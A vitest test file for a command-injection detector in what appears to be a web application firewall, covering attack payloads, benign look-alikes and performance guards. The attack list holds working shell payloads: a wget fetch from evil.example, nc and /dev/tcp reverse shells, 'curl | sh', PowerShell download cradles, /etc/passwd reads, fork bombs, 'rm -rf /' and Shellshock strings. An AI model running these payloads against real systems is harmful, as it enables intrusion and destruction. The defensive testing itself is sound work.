import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { variants } from "../decode.ts";
import { CMDI_RULES, cmdiDetector } from "./cmdi.ts";

// A guard against super-linear work, not a speed target (those live in bench/): linear code takes a
// few ms on 64 KiB here, quadratic work seconds; the bound leaves room for a loaded CI machine.
const SUPERLINEAR_GUARD_MS = 250;

/** Rules matched at paranoia `pl` or below over every decoded variant, as the engine runs them. */
const rulesAt = (value: string, pl = 1): string[] => [
  ...new Set(
    variants(value).flatMap((v) =>
      cmdiDetector
        .inspect({ name: "ARGS:host", value: v })
        .filter((d) => d.paranoia <= pl)
        .map((d) => d.rule),
    ),
  ),
];

describe("cmdiDetector: attacks", () => {
  const attacks: [string, string][] = [
    ["127.0.0.1; cat /etc/passwd", "cmdi-separator-command"],
    ["x|id", "cmdi-separator-command"],
    [";id;", "cmdi-separator-command"],
    ["| id", "cmdi-separator-command"], // a value opening with a separator
    ["a || whoami", "cmdi-separator-command"],
    ["a && uname -a", "cmdi-separator-command"],
    ["a & wget http://evil.example/x.sh", "cmdi-separator-command"],
    ["a\nnc -e /bin/sh 10.0.0.1 4444", "cmdi-separator-command"],
    ["a%0abash -i", "cmdi-separator-command"],
    ["1;sleep 5;", "cmdi-separator-command"],
    ["1 | ping -c 10 127.0.0.1", "cmdi-separator-command"],
    ["curl http://x | sh", "cmdi-separator-command"],
    ["; python3 -c 'import os'", "cmdi-separator-command"],
    ["`cat /etc/passwd`", "cmdi-substitution"],
    ["`whoami`", "cmdi-substitution"],
    ["$(id)", "cmdi-substitution"],
    ["x$(sleep 10)", "cmdi-substitution"],
    ["/usr/bin/id", "cmdi-binary-path"],
    ['<!--#exec cmd="/bin/cat /etc/passwd"-->', "cmdi-binary-path"],
    ["cat /etc/passwd", "cmdi-command-line"],
    ["nohup ifconfig", "cmdi-command-line"], // a prefix command runs the next word
    [";lastlog -u root", "cmdi-separator-command"], // an unknown program given options
    ["ax--exec=`id`--remote=origin", "cmdi-substitution"], // backticks glued to a word are no code span
    ["ping -n 31 127.0.0.1", "cmdi-command-line"],
    // evasions
    [";c''at /etc/passwd", "cmdi-separator-command"],
    [";c\\at /etc/passwd", "cmdi-separator-command"],
    [";cat${IFS}/etc/passwd", "cmdi-separator-command"],
    [";cat$IFS$9/etc/passwd", "cmdi-separator-command"],
    [";{cat,/etc/passwd}", "cmdi-separator-command"],
    [";w'h'o'am'i", "cmdi-evasion"],
    ["'wh'oami", "cmdi-evasion"],
    ["x;c$_at /et$_c/passwd", "cmdi-separator-command"],
    ["x;cat$u /etc$u/passwd", "cmdi-separator-command"],
    ["x;c$?at /etc/passwd", "cmdi-separator-command"],
    ["time whoami | sh", "cmdi-separator-command"],
    ["/???/??t /???/p??s??", "cmdi-glob-path"],
    ["cat /etc/pa[s]swd", "cmdi-glob-path"],
    ["bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "cmdi-reverse-shell"],
    // Windows
    ["x & type C:\\boot.ini", "cmdi-windows"],
    ["x | dir c:\\", "cmdi-windows"],
    ["x&&dir", "cmdi-windows"],
    ["cmd /c whoami", "cmdi-windows"],
    ["C:\\Windows\\System32\\cmd.exe /k ver", "cmdi-windows"],
    ["x & c^m^d /c calc", "cmdi-windows"],
    ["powershell -EncodedCommand ZQBjAGgAbwA=", "cmdi-windows"],
    ["IEX (New-Object Net.WebClient).DownloadString('http://x')", "cmdi-windows"],
    ["Invoke-WebRequest http://example.com/file.ps1", "cmdi-windows"],
    ["for /f %a in ('dir /b') do echo %a", "cmdi-windows"],
    ['IF "%var%"=="" (SET var=1)', "cmdi-windows"],
    // Shellshock
    // a value that is a command ended by a separator, tools no prose names, versions, bin paths
    ["id;", "cmdi-command-line"],
    ["whoami;0'0'", "cmdi-command-line"],
    ["visudo\n", "cmdi-command-line"],
    ["cd /;cd etc;column passwd", "cmdi-command-line"],
    ["ansible-doc plugin ping", "cmdi-command-line"], // a tool family's member
    ["x; ansible-playbook --check site.yml", "cmdi-separator-command"],
    ["time; cscli alerts list", "cmdi-separator-command"],
    ["echo | gcc7.4", "cmdi-separator-command"], // a version glued to the name
    ["; python3.10 -c 'print(1)'", "cmdi-separator-command"],
    ["bin/ansible", "cmdi-binary-path"], // any program in a binary directory
    ["/usr/local/bin/foo-tool", "cmdi-binary-path"],
    ["x&bcdboot/r file.txt", "cmdi-windows"], // a Windows tool glued to its switch
    ["env --version", "cmdi-command-line"],
    // shell expansions
    ["$[2+2]", "cmdi-expansion"],
    ["$[]", "cmdi-expansion"],
    ["$((7*7))", "cmdi-expansion"],
    ["${x#{}}", "cmdi-expansion"],
    ["${PATH:-/bin}", "cmdi-expansion"],
    ["${!ref}", "cmdi-expansion"],
    ["~+", "cmdi-expansion"],
    ["~-1", "cmdi-expansion"],
    ["!-1!-2", "cmdi-expansion"],
    [">(tee log)", "cmdi-substitution"],
    ["`id`", "cmdi-substitution"], // the whole value: a blind-injection probe
    ['"`true`"', "cmdi-substitution"],
    ["{cat,/etc/passwd}", "cmdi-brace-expansion"],
    ["{,ifconfig}", "cmdi-brace-expansion"],
    ["c{a,oun}t /etc/hosts", "cmdi-brace-expansion"],
    ["{l,-lh}s", "cmdi-brace-expansion"],
    ["{,$'whoami',}", "cmdi-brace-expansion"],
    ["{,/?s?/?i?/c?t,/e??/p??s??,}", "cmdi-brace-expansion"],
    // evasions by variables, empty substitutions, aliases
    ["a=nc&&$a -nlvp 555", "cmdi-variable-command"],
    ["c1=c;c2=at;$c1$c2 /etc/passwd", "cmdi-variable-command"],
    ["cmd=garb=adduse[r];$garb pizza", "cmdi-variable-command"],
    ['$SHELL -c "echo hi"', "cmdi-variable-command"],
    ['${SHELL} -c "echo hi"', "cmdi-variable-command"],
    ["pi``ng 127.0.0.1", "cmdi-command-line"],
    ["pi$()ng 127.0.0.1", "cmdi-command-line"],
    ["cu$@rl google.com", "cmdi-evasion"],
    ["\\ls", "cmdi-evasion"],
    ["alias a=b", "cmdi-alias"],
    ["alias +m x='curl'&x google.com", "cmdi-alias"],
    ["f(){ f|f& };f", "cmdi-fork-bomb"],
    [":(){ :|:& };:", "cmdi-fork-bomb"],
    ["d=/dev&&(sh)0>$d/tcp/10.0.0.1/777", "cmdi-reverse-shell"],
    // cmd.exe conditions
    ["if (1) equ (1) echo hey", "cmdi-windows"],
    ["IF 2 GEQ 15 echo bigger", "cmdi-windows"],
    ["if not (2 equ 2) echo hey", "cmdi-windows"],
    ["IF [%1] EQU [] ECHO Value Missing", "cmdi-windows"],
    ["if/i a==b foo", "cmdi-windows"],
    // redirections, Windows subcommands and programs, literal line breaks, substring expansion
    [">/tmp/curl", "cmdi-redirection"],
    ["x; ls 2>&1", "cmdi-redirection"],
    ["ping -c 1 x >/dev/null", "cmdi-redirection"],
    ["127.0.0.1 && net user", "cmdi-windows"],
    ["x | reg query HKLM\\Software", "cmdi-windows"],
    ["x & start calc.exe", "cmdi-windows"],
    ["x; Get-Content C:\\secret.txt", "cmdi-windows"],
    ["1;Start-Sleep -s 5", "cmdi-windows"],
    ["x\\nrm -rf /", "cmdi-separator-command"],
    ["x;${PATH:0:1}etc${PATH:0:1}passwd", "cmdi-expansion"],
    // mail protocol commands after a line break
    ["x\r\nMAIL FROM:<a@b.example>", "cmdi-mail-command"],
    ["x%0d%0aRCPT TO:<postmaster>", "cmdi-mail-command"],
    ["() { :; }; /bin/bash -c id", "cmdi-shellshock"],
    ["() { _; } >_[$($())] { id; }", "cmdi-shellshock"],
    ['{ "() { :; }":"foo" }', "cmdi-shellshock"],
  ];
  it.each(attacks)("%s → %s", (value, rule) => {
    expect(rulesAt(value)).toContain(rule);
  });

  it("weaker forms wait for PL2", () => {
    expect(rulesAt("run `id` here")).toEqual([]);
    expect(rulesAt("run `id` here", 2)).toContain("cmdi-command-word");
    expect(rulesAt("Salt; cat food")).toEqual([]);
    expect(rulesAt("a && echo vulnerable", 2)).toContain("cmdi-command-word");
    expect(rulesAt("x; mytool --check site.yml")).toEqual([]);
    expect(rulesAt("x; mytool --check site.yml", 2)).toContain("cmdi-option-command");
    expect(rulesAt("perf --version")).toEqual([]);
    expect(rulesAt("perf --version", 2)).toContain("cmdi-option-command");
    expect(rulesAt("cscli alerts list")).toEqual([]);
    expect(rulesAt("cscli alerts list", 2)).toContain("cmdi-command-word");
    expect(rulesAt("x ;top something", 2)).toContain("cmdi-command-word");
    // SQLite shell dot commands block at PL1: `;` then `.shell` is no sentence.
    expect(rulesAt(";\\n.shell nc 10.0.0.1 4444 -e sh")).toContain("cmdi-sqlite-dot");
    expect(rulesAt("1;.sh whoami")).toContain("cmdi-sqlite-dot");
    expect(rulesAt("see the file; .shellrc is read first")).not.toContain("cmdi-sqlite-dot");
    expect(rulesAt("\r\na001 EXAMINE INBOX")).toEqual([]);
    expect(rulesAt("\r\na001 EXAMINE INBOX", 2)).toContain("cmdi-mail-verb");
    expect(rulesAt("x\r\nRETR 123", 2)).toContain("cmdi-mail-verb");
    expect(rulesAt("~0", 2)).toContain("cmdi-shell-syntax");
    expect(rulesAt("!!", 2)).toContain("cmdi-shell-syntax");
  });

  it("reports rule, tags, level, severity and target", () => {
    const [d] = cmdiDetector.inspect({ name: "ARGS:h", value: ";id;" });
    expect(d).toEqual({
      rule: "cmdi-separator-command",
      tags: ["attack-rce", "platform-unix"],
      paranoia: 1,
      severity: "critical",
      target: "ARGS:h",
    });
    for (const r of Object.values(CMDI_RULES)) expect([1, 2]).toContain(r.paranoia);
  });
});

describe("cmdiDetector: benign look-alikes at PL1", () => {
  const benign = [
    "Tom & Jerry",
    "R&D; Sales",
    "pipe | separated | values",
    "Name | ID | Email",
    "cat videos; dog videos",
    "I'd like to sleep 8 hours",
    "tired; sleep 8 hours",
    "hello; time he came",
    "Java; Python; Ruby",
    "Perl | Python | Ruby",
    "Raleigh; NC 27601",
    "https://example.com/?a=1&id=2&cat=3&sort=name",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119",
    "Enter your user name (ID)",
    "the `id` column is the key",
    "$(document).ready(function () { init(); })",
    "function () { return 1; }",
    "O'Brien",
    "don't; won't",
    "echo in the mirror",
    "curl and divergence",
    "bash away in the gym",
    "ls 300 lexus",
    "nc 8000 controller",
    "data://text/plain;base64,SSBsb3ZlIFBIUAo=",
    "if (a == b) { return; }",
    "for each item in (list) do this",
    "C++ & C#",
    "Sales; Marketing -Q3 plan",
    "curl and divergence",
    "wget download windows",
    "if (x == y) { return; }",
    "if+foo==",
    "If the subject parameter is greater than 0, then return a list",
    "*.{js,ts}",
    '{"a":1,"b":2}',
    "{cat,dog}",
    "$[0].name", // JSONPath
    "${user.name}", // a template literal
    "`${a}/${b}`",
    "Hello ${name}, you owe ${amount}",
    "~/Documents",
    "approx ~5 minutes",
    "Wow!!!",
    "cabin/door",
    "/blog/geekery/ssh-honeypot-is-alive.html",
    "Go to store.\nAt the store, shop.",
    "data://text/plain;base64,SSBsb3ZlIFBIUAo=",
    "Dear team,\r\nplease list 3 options\r\nthanks",
    "mail from: John",
    "the `id` column and the `name` column",
    "f(x) { return x*2 }",
    "US$5 cat food",
    "alias: Bob",
    "$x = 1; $y = 2;",
    "a > b",
    "bin/readme.md",
    "Set-up; get-together",
    "/metrics/tcp/server1/443",
    "hostname;ip;port",
    "Time\n",
    "x -> /dev/null",
    "<b>bold</b> > plain",
    "NC;SC;GA",
    "Java; net income",
    "hello\\nworld",
    "c:\\new\\folder",
  ];
  it.each(benign)("%s", (value) => {
    expect(rulesAt(value)).toEqual([]);
  });

  // Decision: a shell command quoted in a code-review comment *is* shell syntax; it is flagged at PL1
  // like an attack, and the comment field gets a scoped exclusion (rule or tag `attack-rce` on that
  // parameter), as CRS users do. Commands named in prose without shell syntax are not flagged.
  it("flags commands quoted in a code-review comment (tuned away by a parameter exclusion)", () => {
    expect(rulesAt("LGTM, but run `cat /etc/hosts` first; then ls -la")).not.toEqual([]);
    expect(rulesAt("LGTM, the cat helper reads files")).toEqual([]);
  });
});

describe("cmdiDetector: robustness", () => {
  it("never throws", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), (s) => {
        cmdiDetector.inspect({ name: "ARGS:x", value: s });
      }),
      { numRuns: 300 },
    );
  });
  it("stays linear on adversarial input", () => {
    const inputs = [
      ";cat ",
      "(cat a",
      "$(",
      "`",
      "() {",
      "for ",
      "if ",
      "/?",
      "[a]/",
      "bin/",
      "$u",
      ";",
      "a",
      "{",
      "{a,",
      "${",
      "$((",
      "$[",
      "!-1",
      "alias ",
      "f(){ ",
      "\r\nmail ",
      "a=1;$",
      "`",
      "c$@",
    ].map((u) => u.repeat(Math.ceil(65536 / u.length)).slice(0, 65536));
    for (const v of inputs) cmdiDetector.inspect({ name: "ARGS:x", value: v }); // warm-up
    for (const v of inputs) {
      // Best of three, so a busy machine does not fail the test. the guard for 64 KiB is generous
      // (under 7 ms measured); quadratic work would take seconds.
      let best = Infinity;
      for (let k = 0; k < 3; k++) {
        const t0 = performance.now();
        cmdiDetector.inspect({ name: "ARGS:x", value: v });
        best = Math.min(best, performance.now() - t0);
      }
      expect(best).toBeLessThan(SUPERLINEAR_GUARD_MS);
    }
  });
});
